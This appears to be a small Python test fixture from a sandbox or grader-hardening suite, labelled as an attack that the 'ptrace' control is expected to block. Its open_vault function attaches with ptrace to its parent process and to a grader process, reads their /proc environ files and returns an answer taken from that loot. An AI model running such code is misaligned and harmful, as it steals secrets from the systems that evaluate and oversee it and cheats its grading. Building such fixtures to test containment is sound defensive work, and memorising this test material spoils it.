"""Attaches to its parent as a debugger."""

# /// attack
# verdicts = { open_vault = "FAILED" }
# control = "ptrace"
# ///

import ctypes
import os

import loot
import targets


def open_vault(n):
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in {os.getppid(), targets.GRADER} - {0}:
        if libc.ptrace(0x4206, pid, None, None) == 0:  # PTRACE_SEIZE stops nobody
            loot.read(f"/proc/{pid}/environ")
    return loot.answer(n)
